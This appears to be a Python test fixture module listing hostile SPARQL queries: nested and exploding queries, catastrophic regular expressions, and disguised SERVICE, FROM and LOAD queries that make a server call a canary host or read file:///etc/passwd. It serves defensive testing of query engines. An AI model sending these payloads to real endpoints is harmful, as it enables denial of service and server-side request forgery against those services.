"""Queries that a hostile client sends.

They are too deep, too many, too large, or meant to make the server ask another.

Source: the grammar of SPARQL 1.1 (https://www.w3.org/TR/sparql11-query/#grammar).
"""

from __future__ import annotations


def nested() -> list[str]:
    """Queries that go deep in every way that the grammar has, with brackets and without."""
    many = 4000
    return [
        "ASK " + "{" * many + "}" * many,
        "ASK {{{{",
        "ASK { FILTER(" + "(" * many + "1" + ")" * many + ") }",
        "ASK " + "{ OPTIONAL " * 60 + "{ ?s ?p ?o }" + "}" * 60,
        "SELECT * " + "{ SELECT * " * 60 + "{ ?s ?p ?o }" + "}" * 60,
        "ASK { ?s " + "(" * many + "a" + ")*" * many + " ?o }",
        "ASK { ?s " + "^" * many + "a ?o }",
        "ASK { ?s a" + "/a" * many + " ?o }",
        "ASK { ?s a" + "|a" * many + " ?o }",
        "ASK { FILTER(" + "!" * many + "true) }",
        "ASK { FILTER(" + "- " * many + "1) }",
        "ASK { FILTER(1" + "+1" * many + ") }",
        "ASK { FILTER(true" + "||false" * many + ") }",
        "ASK { {}" + " UNION {}" * many + " }",
        "ASK {" + " ?s ?p ?o ." * many + " }",
        "ASK { ?s ?p ?o" + " OPTIONAL { ?s a ?o }" * many + " }",
        "ASK { ?s ?p " + "( 1 " * many + ")" * many + " }",
        "ASK { ?s ?p " + "[ a " * many + "1" + "]" * many + " }",
        "ASK { ?s ?p ?o" + "".join(f" BIND(?o AS ?o{n})" for n in range(many)) + " }",
        "# " + "{" * many + '\nASK { ?s ?p "' + "{" * many + '" } # ' + "}" * many,
        "ASK { ?s ?p '''" + "'\\'{" * many + "''' }",
        "ASK { FILTER(1<2" + "<3" * many + ") }",
    ]


def products() -> list[str]:
    """Queries that never end, or sort, join and count what is far too much."""
    pairs = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
    return [
        f"SELECT (COUNT(*) AS ?n) {{ {pairs} FILTER(?c != ?f && ?f != ?i) }}",
        f"SELECT * {{ {pairs} }} ORDER BY ?i ?c DESC(?f)",
        f"SELECT DISTINCT ?a ?d ?g {{ {pairs} }}",
        f"SELECT * {{ {pairs} }} OFFSET 999999999999",
        "SELECT * { ?s ?p ?o } OFFSET 99999999999999999999999999",
        "SELECT (COUNT(*) AS ?n) { ?a (!<urn:x>)* ?b . ?c (!<urn:y>)+ ?d }",
        (
            "SELECT ?a (COUNT(DISTINCT ?f) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?d "
            "HAVING(COUNT(?c) > 1)"
        ),
        (
            "SELECT * { ?a ?b ?c FILTER NOT EXISTS { ?d ?e ?f . ?g ?h ?i FILTER(?c = ?i && "
            "?a = ?d && ?f = 1) } }"
        ),
        "SELECT * { ?a ?b ?c MINUS { ?d ?e ?f . ?g ?h ?c } }",
        "CONSTRUCT { ?a ?e ?i } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    ]


def swollen() -> list[str]:
    """Queries that make a great deal out of little."""
    doubled = "".join(f" BIND(CONCAT(?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(40))
    return [
        f"SELECT (STRLEN(?v40) AS ?n) {{ BIND('aaaaaaaaaa' AS ?v0){doubled} }}",
        "SELECT (STRLEN(GROUP_CONCAT(CONCAT(STR(?c), STR(?f)))) AS ?n) { ?a ?b ?c . ?d ?e ?f }",
        "SELECT (STRLEN(REPLACE(REPLACE(REPLACE(?t, 'a', ?t), 'a', ?t), 'a', ?t)) AS ?n) { BIND('"
        + "a" * 2000
        + "' AS ?t) }",
        "SELECT * { VALUES ?a { " + "1 " * 20_000 + "} VALUES ?b { " + "2 " * 20_000 + "} }",
        "SELECT (GROUP_CONCAT(?t) AS ?all) { ?s ?p ?o BIND('" + "x" * 5000 + "' AS ?t) }",
        "SELECT * { ?s ?p ?o }",
        (
            "CONSTRUCT { ?s ?p ?o . ?o2 ?p ?s } { ?s ?p ?o BIND(IRI(CONCAT('urn:', "
            "STR(RAND()))) AS ?o2) }"
        ),
    ]


def expressions() -> list[str]:
    """Regular expressions that some engines never finish, or that grow when they are compiled."""
    return [
        (
            f"SELECT * "
            f"{{ ?s ?p ?o FILTER(REGEX(CONCAT(STR(?o), '{'a' * 3000}!'), '{pattern}')) }} LIMIT 1"
        )
        for pattern in (
            "^(a+)+$",
            "^(a|aa)+$",
            "(.*a){25}$",
            "((.{1,100}){1,100}){1,100}",
            "(?i)(\\\\w*x){30}",
            "(" * 300 + "a" + ")*" * 300,
        )
    ]


def elsewhere(canary: str) -> list[str]:
    """Queries that would have the server ask another, in every disguise that we know."""
    place, every = f"<{canary}>", "{ ?s ?p ?o }"
    return [
        f"SELECT * {{ SERVICE {place} {every} }}",
        f"SELECT * {{ ?s ?p ?o .SERVICE {place} {every} }}",
        f"SELECT * {{ ?s ?p ?o.SERVICE {place} {every} }}",
        f"SELECT * {{ FILTER(1<2)SERVICE#>\n{place} {every} }}",
        f"SELECT * {{ SERVICESILENT {place} {every} }}",
        f"SELECT * {{ SERVICE SILENT {place} {every} }}",
        f"PREFIX : {place} SELECT * {{ SERVICE: {every} }}",
        f"PREFIX ex: {place} SELECT * {{ SERVICEex: {every} }}",
        f"SELECT * {{ ?s ?p 1SERVICE {place} {every} }}",
        f"SELECT * {{ sErViCe#\n{place} {every} }}",
        f"SELECT * {{ \\u0053ERVICE {place} {every} }}",
        f'SELECT * {{ ?s ?p "\\"" SERVICE {place} {every} }}',
        f"SELECT * {{ ?s ?p ?o {{ SELECT * {{ OPTIONAL {{ SERVICE {place} {every} }} }} }} }}",
        f"SELECT * {{ VALUES ?u {{ {place} }} SERVICE ?u {every} }}",
        f"SELECT * {{ ?s ?p ?o FILTER EXISTS {{ SERVICE {place} {every} }} }}",
        *(
            f"SELECT * {word}{name} {every}"
            for word in ("FROM ", "FROM", "FROM NAMED ", "FROM#\n")
            for name in (place, "<file:///etc/passwd>")
        ),
        f"SELECT * FROM <data:text/turtle,%3Curn:a%3E> {every}",
        f"SELECT * {{ GRAPH {place} {every} }}",
        f"DESCRIBE {place}",
        f"LOAD {place}",
        f"LOAD SILENT {place} INTO GRAPH <urn:g>",
    ]
